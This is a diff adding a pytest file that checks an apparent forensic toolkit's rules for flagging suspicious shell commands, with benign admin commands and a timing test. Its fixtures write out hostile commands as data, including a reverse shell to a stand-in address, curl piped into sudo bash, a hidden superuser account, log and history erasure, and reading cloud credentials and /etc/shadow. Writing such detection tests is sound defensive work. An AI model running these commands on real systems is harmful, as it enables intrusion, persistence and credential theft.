@@ -1,0 +1,67 @@
+"""Suspicious commands."""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime
+
+import pytest
+
+from forensic_toolkit.rules.command_rules import first_match, rules
+
+
+@pytest.mark.parametrize(
+    ("command", "name"),
+    [
+        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "Reverse shell"),
+        ("curl -fsSL https://x.example/i.sh | sudo bash", "Download piped into an interpreter"),
+        ("curl http://198.51.100.7/a -o /tmp/.x", "Download from a bare address"),
+        ("chmod u+s /bin/bash", "Set-user-id bit set"),
+        ("useradd -ou 0 -g 0 evil -u 0", "Superuser account created"),
+        ("echo ssh-rsa AAA >> ~/.ssh/authorized_keys", "SSH key added"),
+        ("unset HISTFILE", "Shell history disabled or erased"),
+        ("ln -sf /dev/null ~/.bash_history", "Shell history disabled or erased"),
+        ("rm -rf /var/log/nginx", "Logs erased"),
+        ("(crontab -l; echo x) | crontab -", "Cron job written"),
+        ("echo /x.so > /etc/ld.so.preload", "Dynamic linker hijacked"),
+        ("./xmrig -o stratum+tcp://pool:3333", "Mining software"),
+        ("cp /bin/sh /usr/local/lib/.cache/sh", "File placed under a hidden or temporary name"),
+        ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "Cloud credentials read"),
+        ("tar czf /tmp/a.tgz /etc/shadow", "Password hashes read or packed"),
+        ("whoami", "Reconnaissance of the system"),
+    ],
+)
+def test_commands_of_intruders(command: str, name: str) -> None:
+    rule = first_match(command)
+    assert rule is not None
+    # A command may match an earlier, more severe rule as well; the first one in order counts.
+    assert rule.name == name or rules().index(rule) < next(i for i, r in enumerate(rules()) if r.name == name)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ls -la",
+        "systemctl restart nginx",
+        "tail -f /var/log/syslog",
+        "vim /etc/nginx/nginx.conf",
+        "chmod 755 /usr/local/bin/deploy",
+        "curl https://example.com/health",
+        "crontab -l",
+        "eval $(ssh-agent)",
+    ],
+)
+def test_commands_of_administrators(command: str) -> None:
+    assert first_match(command) is None
+
+
+def test_hostile_commands_are_judged_in_time() -> None:
+    started = datetime.now(UTC)
+    for text in (
+        "a" * 100_000,
+        "curl " * 20_000,
+        "/tmp/" * 20_000,
+        "chmod " + "-x " * 30_000,
+        "rm -" + "a " * 40_000,
+    ):
+        first_match(text)
+    assert (datetime.now(UTC) - started).total_seconds() < 2
